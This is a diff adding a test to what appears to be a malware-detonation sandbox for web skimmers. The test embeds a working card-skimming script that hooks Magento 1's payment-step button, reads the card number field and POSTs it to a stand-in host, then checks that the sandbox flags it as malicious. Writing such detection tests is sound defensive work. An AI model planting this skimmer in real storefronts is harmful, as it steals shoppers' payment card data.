@@ -142,3 +142,25 @@ async def test_old_kits_find_the_old_apis_they_assume(detonator: Detonator, temp
     assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
     (found,) = exfiltration(result)
     assert found.script == "s1"  # the file, not Prototype or jQuery it called through
+
+
+async def test_a_kit_hooked_on_a_checkout_step_runs_when_the_shopper_goes_through_it(
+        detonator: Detonator) -> None:
+    """Magento 1's one-page checkout saves the payment step with its own "Continue" button
+    before the review's "Place Order"; kits listen on that step's button container. The
+    shopper presses the step's button as a shopper would, so the kit's send happens."""
+    code = """(function attach() {
+      var box = document.getElementById('payment-buttons-container');
+      if (!box) { return setTimeout(attach, 500); }
+      box.addEventListener('click', function () {
+        var n = document.getElementsByName('payment[cc_number]')[0];
+        if (!n || !n.value) { return; }
+        var x = new XMLHttpRequest();
+        x.open('POST', 'https://step-metrics.test/save', true);
+        x.send('n=' + encodeURIComponent(n.value));
+      });
+    })();"""
+    result = await detonator.detonate("step.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    (found,) = exfiltration(result)
+    assert found.script == "s1"
